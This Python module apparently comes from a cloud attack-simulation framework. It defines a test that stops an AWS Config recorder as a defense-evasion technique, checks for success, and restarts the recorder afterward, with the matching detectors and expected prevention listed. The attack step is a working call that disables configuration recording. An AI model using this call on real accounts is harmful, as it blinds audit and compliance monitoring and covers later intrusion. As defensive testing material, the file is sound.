"""Stop AWS Config's recorder: what changes from now on leaves no configuration item."""

from bastide.attack.stage import Stage
from bastide.attack.technique import NotPlayable, Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="AWS Config stops recording",
    mitre=("T1562.001", "T1562.008"),
    tactic="defense-evasion",
    detectors=("Security Hub Config.1", "GuardDuty DefenseEvasion:IAMUser/AnomalousBehavior"),
    expected=Prevented("config-protect"),
    source="AWS Config API Reference, StopConfigurationRecorder",
)


def prepare(stage: Stage) -> Scene:
    """The recorder that runs."""
    found = stage.owner().client("config").describe_configuration_recorders()["ConfigurationRecorders"]
    if not found:
        raise NotPlayable("the victim's account has no configuration recorder")
    return {"recorder": found[0]["name"]}


def attack(stage: Stage, scene: Scene) -> None:
    """Stop it."""
    stage.attacker().client("config").stop_configuration_recorder(ConfigurationRecorderName=scene["recorder"])


def succeeded(stage: Stage, scene: Scene) -> bool:
    """Its status says that it does not record."""
    found = (
        stage.owner()
        .client("config")
        .describe_configuration_recorder_status(ConfigurationRecorderNames=[scene["recorder"]])[
            "ConfigurationRecordersStatus"
        ]
    )
    return found[0]["recording"] is False


def clean_up(stage: Stage, scene: Scene) -> None:
    """Start it."""
    stage.owner().client("config").start_configuration_recorder(ConfigurationRecorderName=scene["recorder"])
